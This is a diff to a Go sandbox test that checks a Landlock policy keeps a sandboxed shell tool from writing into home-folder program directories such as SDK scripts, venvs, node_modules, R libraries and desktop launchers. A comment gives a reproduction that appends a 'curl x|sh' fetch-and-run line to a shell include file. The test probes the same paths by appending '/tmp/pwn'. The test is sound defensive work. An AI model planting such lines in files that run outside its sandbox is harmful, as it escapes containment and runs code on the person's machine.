@@ -88,30 +88,34 @@ func TestA11LinkInsideDotEntryToWritableFolder(t *testing.T) {
 //     list has miniconda3 but not miniconda, miniforge, anaconda);
 //   - ~/node_modules (node resolves require() up to the home folder from
 //     every project below it);
-//   - ~/.. and ~/snap/<name>/ are covered elsewhere.
+//   - ~/Desktop/*.desktop (KDE Plasma and Xfce run an executable launcher
+//     on the desktop when clicked; chmod +x is allowed);
+//   - ~/R/<platform>-library (R_LIBS_USER: R loads the person's packages
+//     from there before the system's).
 //
 // Reproduction: grant ~; in shell_exec: echo 'curl x|sh' >> ~/google-cloud-sdk/path.bash.inc
 func TestA11ProgramFoldersWithoutDot(t *testing.T) {
 	requireLandlock(t)
 	files := map[string]string{
-		"google-cloud-sdk/path.bash.inc":   "export PATH=~/google-cloud-sdk/bin:$PATH\n",
-		"venv/bin/activate":                "VIRTUAL_ENV=~/venv\n",
-		"perl5/lib/perl5/local/lib.pm":     "1;\n",
-		"Android/Sdk/platform-tools/adb":   "#!/bin/sh\n",
-		"flutter/bin/flutter":              "#!/bin/sh\n",
-		"Applications/Obsidian.AppImage":   "#!/bin/sh\n",
-		"miniconda/bin/conda":              "#!/bin/sh\n",
-		"node_modules/lodash/index.js":     "module.exports = {}\n",
-		"Documents/notes.txt":              "mine\n",
-		"R/x86_64-pc-linux-gnu-library/.k": "",
-		".bashrc":                          "source ~/google-cloud-sdk/path.bash.inc\n",
+		"google-cloud-sdk/path.bash.inc":                "export PATH=~/google-cloud-sdk/bin:$PATH\n",
+		"venv/bin/activate":                             "VIRTUAL_ENV=~/venv\n",
+		"perl5/lib/perl5/local/lib.pm":                  "1;\n",
+		"Android/Sdk/platform-tools/adb":                "#!/bin/sh\n",
+		"flutter/bin/flutter":                           "#!/bin/sh\n",
+		"Applications/Obsidian.AppImage":                "#!/bin/sh\n",
+		"miniconda/bin/conda":                           "#!/bin/sh\n",
+		"node_modules/lodash/index.js":                  "module.exports = {}\n",
+		"Documents/notes.txt":                           "mine\n",
+		"R/x86_64-pc-linux-gnu-library/4.3/base/R/base": "",
+		"Desktop/firefox.desktop":                       "[Desktop Entry]\nExec=firefox\n",
+		".bashrc":                                       "source ~/google-cloud-sdk/path.bash.inc\n",
 	}
 	home := homeWith(t, files)
 	in := func(rel string) string { return filepath.Join(home, rel) }
 	for who, p := range a11Policies(t, home) {
 		for _, rel := range []string{"google-cloud-sdk/path.bash.inc", "venv/bin/activate", "perl5/lib/perl5/local/lib.pm",
 			"Android/Sdk/platform-tools/adb", "flutter/bin/flutter", "Applications/Obsidian.AppImage", "miniconda/bin/conda",
-			"node_modules/lodash/index.js"} {
+			"node_modules/lodash/index.js", "R/x86_64-pc-linux-gnu-library/4.3/base/R/base", "Desktop/firefox.desktop"} {
 			t.Run(who+" ~/"+rel, func(t *testing.T) {
 				if out, ok := run(t, p, "echo /tmp/pwn >> "+in(rel)); ok {
 					t.Errorf("a sandboxed %s with the home folder granted wrote ~/%s: succeeded (%s); the person's shell or tools run it outside any sandbox", who, rel, out)
